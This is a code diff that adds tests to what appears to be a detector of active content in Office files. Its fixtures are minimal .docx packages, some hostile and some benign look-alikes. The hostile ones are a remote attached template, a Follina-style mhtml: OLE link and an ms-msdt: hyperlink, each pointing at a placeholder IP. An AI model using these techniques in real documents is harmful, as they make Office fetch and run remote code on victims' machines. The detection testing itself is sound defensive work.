@@ -306,3 +306,50 @@ describe('active-content: Office macros', () => {
     expect(await active(name, bytes)).toEqual(expected);
   });
 });
+
+describe('active-content: Office documents that load or run something from outside', () => {
+  const rel = (type: string, target: string, external = true) =>
+    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/></Relationships>`;
+  const docx = (rels: Record<string, string>) =>
+    zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', ...rels });
+  it.each([
+    [
+      'a remote template (macros fetched when it opens)',
+      docx({ 'word/_rels/settings.xml.rels': rel('attachedTemplate', 'http://203.0.113.9/t.dotm') }),
+      ['office-remote'],
+    ],
+    [
+      'an external OLE object over mhtml: (Follina)',
+      docx({
+        'word/_rels/document.xml.rels': rel(
+          'oleObject',
+          'mhtml:http://203.0.113.9/x.html!x-usc:http://203.0.113.9/x.html',
+        ),
+      }),
+      ['office-remote'],
+    ],
+    [
+      'a hyperlink with the ms-msdt: scheme',
+      docx({ 'word/_rels/document.xml.rels': rel('hyperlink', 'ms-msdt:/id PCWDiagnostic') }),
+      ['office-remote'],
+    ],
+    // Look-alikes: ordinary links to the web, an internal template, a local image.
+    [
+      'ordinary external hyperlinks',
+      docx({ 'word/_rels/document.xml.rels': rel('hyperlink', 'https://example.com/terms') }),
+      [],
+    ],
+    [
+      'an attached template inside the package',
+      docx({ 'word/_rels/settings.xml.rels': rel('attachedTemplate', 'template.dotx', false) }),
+      [],
+    ],
+    [
+      'an image inside the package',
+      docx({ 'word/_rels/document.xml.rels': rel('image', 'media/image1.png', false) }),
+      [],
+    ],
+  ])('%s', async (_label, bytes, expected) => {
+    expect(await active('report.docx', bytes)).toEqual(expected);
+  });
+});
